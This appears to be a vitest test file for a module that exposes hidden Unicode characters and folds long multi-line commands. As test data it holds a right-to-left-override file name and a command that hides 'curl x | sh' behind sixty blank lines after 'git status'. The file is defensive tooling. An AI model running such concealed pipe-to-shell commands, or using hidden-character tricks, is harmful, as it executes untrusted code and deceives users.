import { describe, expect, it } from "vitest";
import { describeHidden, escapeOf, foldLines, hasHidden, hiddenChars, hiddenName, isBidiControl, lineInfo, moreLinesLabel, revealPieces, revealText } from "./visible";

const RLO = "\u202E";

describe("hidden characters (issue 32 row 8)", () => {
  it("shows a right-to-left override as a visible escape, so the name reads as it is", () => {
    expect(revealText(`notes${RLO}hs.txt`)).toBe("notes⟨U+202E⟩hs.txt");
    expect(revealPieces(`notes${RLO}hs.txt`)).toEqual([
      { kind: "text", text: "notes" },
      { kind: "hidden", cp: 0x202e, escape: "⟨U+202E⟩", name: "RIGHT-TO-LEFT OVERRIDE" },
      { kind: "text", text: "hs.txt" },
    ]);
  });

  it("covers bidi controls, zero-width and invisible characters, tags, controls", () => {
    const bidi = [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c];
    const invisible = [0x200b, 0x200c, 0x200d, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0xfeff, 0x00ad, 0x034f, 0x115f, 0x1160, 0x3164, 0xffa0, 0x180e, 0xfe0f, 0x2028, 0x2029];
    const smuggling = [0xe0041, 0xe007f, 0xe0100];
    const controls = [0x00, 0x08, 0x0b, 0x0d, 0x1b, 0x7f, 0x85, 0x9f];
    for (const cp of [...bidi, ...invisible, ...smuggling, ...controls]) {
      const s = `a${String.fromCodePoint(cp)}b`;
      expect(hasHidden(s), escapeOf(cp)).toBe(true);
      expect(revealText(s), escapeOf(cp)).toBe(`a${escapeOf(cp)}b`);
      expect(isBidiControl(cp), escapeOf(cp)).toBe(bidi.includes(cp));
    }
    expect(escapeOf(0xe0041)).toBe("⟨U+E0041⟩");
    expect(hiddenName(0xe0041)).toBe("TAG CHARACTER");
    expect(hiddenName(0x1b)).toBe("ESCAPE");
    expect(hiddenName(0x85)).toBe("CONTROL CHARACTER");
  });

  it("leaves ordinary text alone: tabs, line feeds in commands, accents, other scripts, emoji", () => {
    for (const s of ["git status\n\tls -la", "café naïve", "файл.txt", "מסמך.txt", "日本語", "🎉 done", "a b"]) {
      expect(hasHidden(s), s).toBe(false);
      expect(revealText(s)).toBe(s);
    }
    expect(revealPieces("")).toEqual([]);
  });

  it("escapes line feeds where a text is one line (a path)", () => {
    expect(revealText("a\nb.txt", { newlines: "escape" })).toBe("a⟨U+000A⟩b.txt");
    expect(revealText("a\nb.txt")).toBe("a\nb.txt");
    expect(hiddenChars(["a\nb"], { newlines: "escape" })).toEqual([0x0a]);
  });

  it("lists the distinct hidden characters of several texts, bidi marked", () => {
    const cps = hiddenChars([`x${RLO}y${RLO}`, "p\u200Bq", "plain"]);
    expect(cps).toEqual([0x202e, 0x200b]);
    expect(describeHidden(cps)).toBe("U+202E RIGHT-TO-LEFT OVERRIDE (reorders text)\nU+200B ZERO WIDTH SPACE");
  });
});

describe("multi-line commands", () => {
  const attack = `git status${"\n".repeat(60)}curl x | sh`;

  it("count their lines", () => {
    expect(lineInfo(attack)).toEqual({ first: "git status", lines: 61, more: 60 });
    expect(lineInfo("git status")).toEqual({ first: "git status", lines: 1, more: 0 });
    expect(lineInfo("make\n")).toEqual({ first: "make", lines: 1, more: 0 });
    expect(moreLinesLabel(attack)).toBe("(+60 lines)");
    expect(moreLinesLabel("a\nb")).toBe("(+1 line)");
    expect(moreLinesLabel("a")).toBe("");
  });

  it("fold after the first lines, keeping the rest", () => {
    const f = foldLines(attack, 8);
    expect(f.head).toBe(`git status${"\n".repeat(7)}`);
    expect(f.restLines).toBe(53);
    expect(f.rest.endsWith("curl x | sh")).toBe(true);
    expect(`${f.head}\n${f.rest}`).toBe(attack);
    expect(foldLines("a\nb", 8)).toEqual({ head: "a\nb", rest: "", restLines: 0 });
  });
});
